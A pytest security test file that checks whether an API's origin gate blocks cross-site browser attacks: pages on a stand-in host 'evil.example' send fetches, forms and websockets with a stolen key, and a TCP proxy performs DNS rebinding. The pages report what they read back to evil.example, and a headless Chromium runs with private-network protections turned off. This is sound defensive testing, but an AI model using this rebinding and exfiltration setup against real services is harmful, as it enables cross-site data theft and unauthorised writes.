"""Pages of other sites in a real browser: whatever they try, nothing reaches the API.

The pages have a valid key, so that not the want of one stops them. One page is of another site, one has no origin at
all (a sandboxed frame), and the third is of a name that led to its own server when it was loaded and leads to the
plant's from then on.
"""

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from tests.kit.served import Served, served
from tests.services import leave_out

SCRIPT = Path(__file__).with_name("attack.js").read_text(encoding="utf-8")
ATTEMPTS_MIN = 60
BROWSER_S = 100


class Counted:
    """The API, and how often anything reached it."""

    def __init__(self, view: Any) -> None:
        self._view = view
        self.reached: list[str] = []

    def __getattr__(self, name: str) -> Any:
        return getattr(self._view, name)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """One request."""
        headers = {name.decode(): value.decode("latin-1") for name, value in scope["headers"]}
        self.reached.append(f"{scope['type']} {scope.get('method', '')} {headers.get('origin')} {headers.get('host')}")
        await self._view(scope, receive, send)


class EvilSite:
    """Serves the pages and takes their reports."""

    def __init__(self, target: str, key: str) -> None:
        self._target = target
        self._key = key
        self.port = 0
        self.reports: asyncio.Queue[list[dict[str, str]]] = asyncio.Queue()
        self.app = Starlette(
            routes=[
                Route("/foreign", self.foreign),
                Route("/sandboxed", self.sandboxed),
                Route("/rebound", self.rebound),
                Route("/report", self.report, methods=["POST"]),
            ]
        )

    def page(self, where: str, target: str, parts: list[str]) -> str:
        values = {"WHERE": where, "TARGET": target, "SECRET": self._key, "PARTS": parts}
        report = f"http://evil.example:{self.port}/report"
        said = "".join(f"const {name} = {json.dumps(value)};" for name, value in {**values, "REPORT": report}.items())
        return f"<!doctype html><body><script>{said}{SCRIPT}</script>"

    async def foreign(self, _: Request) -> Response:
        return closing(self.page("foreign", self._target, ["fetches", "gets", "forms", "sockets", "others"]))

    async def sandboxed(self, _: Request) -> Response:
        page = self.page("null", self._target, ["fetches", "gets", "sockets", "others"])
        frame = page.replace("&", "&amp;").replace('"', "&quot;")
        return closing(f'<!doctype html><iframe sandbox="allow-scripts allow-forms" srcdoc="{frame}"></iframe>')

    async def rebound(self, request: Request) -> Response:
        return closing(self.page("rebound", request.headers["host"], ["fetches", "gets", "sockets", "others"]))

    async def report(self, request: Request) -> Response:
        self.reports.put_nowait(json.loads(await request.body()))
        return Response(status_code=204)


def closing(text: str) -> Response:
    return HTMLResponse(text, headers={"Connection": "close"})


@asynccontextmanager
async def site(app: Starlette) -> AsyncIterator[int]:
    """Serve ``app`` while the block lasts; gives its port."""
    server = uvicorn.Server(uvicorn.Config(app, port=0, log_config=None, lifespan="off"))
    task = asyncio.create_task(server.serve())
    while not server.started:  # noqa: ASYNC110  # uvicorn has no event for it
        await asyncio.sleep(0.01)
    try:
        yield server.servers[0].sockets[0].getsockname()[1]
    finally:
        server.should_exit = True
        await task


@asynccontextmanager
async def rebinding(first: int, then: int) -> AsyncIterator[int]:
    """A port that leads to ``first`` for the page itself and to ``then`` for all that the page asks."""

    async def lead(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        begin = await reader.read(65_536)
        there, back = await asyncio.open_connection("127.0.0.1", first if b"GET /rebound" in begin else then)
        back.write(begin)
        await asyncio.gather(copy(reader, back), copy(there, writer))

    async def copy(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            while part := await source.read(65_536):
                sink.write(part)
                await sink.drain()
        sink.close()

    server = await asyncio.start_server(lead, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()


@asynccontextmanager
async def browser(address: str, profile: Path) -> AsyncIterator[None]:
    """A browser that opens ``address``."""
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if program is None:
        leave_out("browsers", "chromium is not installed")
    process = await asyncio.create_subprocess_exec(
        program,
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        # what a browser of today forbids beside us must not be what stops the page
        "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks",
        "--host-resolver-rules=MAP evil.example 127.0.0.1,MAP rebound.example 127.0.0.1",
        f"--user-data-dir={profile}",
        address,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.kill()
        await process.wait()


async def attacked(server: Served, page: str, tmp_path: Path, *, rebound: bool = False) -> list[dict[str, str]]:
    """What a page could read, attempt by attempt."""
    evil = EvilSite(server.address, server.key)
    async with site(evil.app) as evil.port, rebinding(evil.port, int(server.address.split(":")[1])) as both:
        address = f"http://rebound.example:{both}" if rebound else f"http://evil.example:{evil.port}"
        async with browser(f"{address}/{page}", tmp_path / page), asyncio.timeout(BROWSER_S):
            return await evil.reports.get()


@pytest.mark.slow
@pytest.mark.parametrize("by_get", [False, True])
async def test_no_page_of_another_site_reaches_the_api(database_url: str, tmp_path: Path, by_get: bool) -> None:
    async with served(database_url, queries_by_get=by_get, introspection=by_get) as server:
        counted = {name: Counted(getattr(server.app.state, name)) for name in ("graphql", "stream")}
        for name, view in counted.items():
            setattr(server.app.state, name, view)
        tried = await attacked(server, "foreign", tmp_path)
        tried += await attacked(server, "sandboxed", tmp_path)
        tried += await attacked(server, "rebound", tmp_path, rebound=True)
        reached = [line for view in counted.values() for line in view.reached]
        assert reached == [], "the gate lets none of them pass"
        assert len(tried) >= ATTEMPTS_MIN
        told = [attempt for attempt in tried if "sites" in attempt["read"] or '"data"' in attempt["read"]]
        assert told == []
        assert (await server.ask("{ sites { code } }"))["sites"] == [], "nothing was written"


@pytest.mark.slow
async def test_the_attempts_would_succeed_from_a_site_that_is_permitted(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mesgraph.gate.origins import KnownOrigins

    monkeypatch.setattr(KnownOrigins, "_judged", lambda *_: (0, ""))  # no gate
    async with served(database_url) as server:
        tried = await attacked(server, "rebound", tmp_path, rebound=True)
        read = {
            attempt["name"] for attempt in tried if '"data"' in attempt["read"] or "connection_ack" in attempt["read"]
        }
        assert len(read) >= 2, "so the test above can fail"
        assert (await server.ask("{ sites { code } }"))["sites"] == [{"code": "EVIL"}]
